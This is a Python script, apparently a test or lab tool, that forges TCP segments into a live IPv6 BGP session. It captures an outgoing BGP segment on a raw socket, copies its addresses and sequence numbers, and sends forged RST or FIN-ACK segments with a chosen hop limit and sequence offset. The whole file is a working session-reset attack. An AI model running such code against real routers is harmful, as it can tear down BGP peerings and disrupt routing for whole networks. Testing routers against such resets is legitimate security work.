"""Sends forged TCP segments of a BGP session out of a port, as somebody at this end of the cable could.

    python3 spoof.py PORT FLAGS HOPLIMIT OFFSET COUNT

Waits for a segment of the session that leaves through PORT, takes its addresses and sequence numbers, and sends COUNT
copies without payload, with FLAGS ("R", "FA", ...) and a sequence number OFFSET behind what comes next.
"""

import socket
import struct
import sys

BITS = {"F": 1, "S": 2, "R": 4, "P": 8, "A": 16}
BGP = 179
OUTGOING = 4


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def session_segment(frame):
    """(Ethernet header, source, destination, TCP header, payload length) of a segment of a BGP session over IPv6, or None."""
    if len(frame) < 74 or frame[12:14] != b"\x86\xdd" or frame[20] != socket.IPPROTO_TCP:
        return None
    length = struct.unpack_from(">H", frame, 18)[0]
    tcp = frame[54:54 + length]
    ports = struct.unpack_from(">HH", tcp)
    if BGP not in ports or tcp[13] & (BITS["S"] | BITS["R"] | BITS["F"]):
        return None
    return frame[:14], frame[22:38], frame[38:54], tcp, length - (tcp[12] >> 4) * 4


def forge(ethernet, src, dst, tcp, payload, flags, hop_limit, offset):
    sport, dport, seq, ack = struct.unpack_from(">HHII", tcp)
    out = struct.pack(">HHIIBBHHH", sport, dport, (seq + payload + offset) & 0xFFFFFFFF, ack, 5 << 4,
                      sum(BITS[c] for c in flags), 1024, 0, 0)
    pseudo = src + dst + struct.pack(">IHBB", len(out), 0, 0, socket.IPPROTO_TCP)
    out = out[:16] + struct.pack(">H", checksum(pseudo + out)) + out[18:]
    return ethernet + struct.pack(">IHBB", 6 << 28, len(out), socket.IPPROTO_TCP, hop_limit) + src + dst + out


def main(port, flags, hop_limit, offset, count):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))  # ETH_P_ALL: what leaves is seen, too
    s.bind((port, 0))
    s.settimeout(60)
    found = None
    while not found:
        frame, address = s.recvfrom(65535)
        found = session_segment(frame) if address[2] == OUTGOING else None
    for _ in range(int(count)):
        s.send(forge(*found, flags, int(hop_limit), int(offset)))


if __name__ == "__main__":
    main(*sys.argv[1:])
